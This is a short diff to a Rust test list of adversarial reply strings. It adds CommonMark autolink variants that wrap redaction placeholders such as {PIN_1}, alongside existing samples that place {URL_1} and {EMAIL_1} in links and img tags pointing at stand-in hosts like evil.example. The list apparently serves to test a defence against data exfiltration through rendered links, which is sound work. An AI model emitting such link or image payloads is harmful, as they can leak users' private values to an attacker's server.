@@ -84,6 +84,14 @@ const REPLIES: &[&str] = &[
     "{URL_1}@evil.example/",
     "{URL_1}:x@evil.example/",
     "{URL_1}.evil.example/",
+    // Links of CommonMark's own: any name before a colon or an at sign.
+    "<{PIN_1}mailto:>",
+    "<{PIN_1}:x>",
+    "<{PIN_1}-x.y+z:x>",
+    "<x.{PIN_1}:x>",
+    "<1{PIN_1}@evil.example>",
+    "<{PIN_1}@evil.example>",
+    "<!#$%&'*{PIN_1}+a@evil.example>",
     // HTML.
     "<img src={EMAIL_1}>",
     "<img src=//evil/?q={EMAIL_1}>",
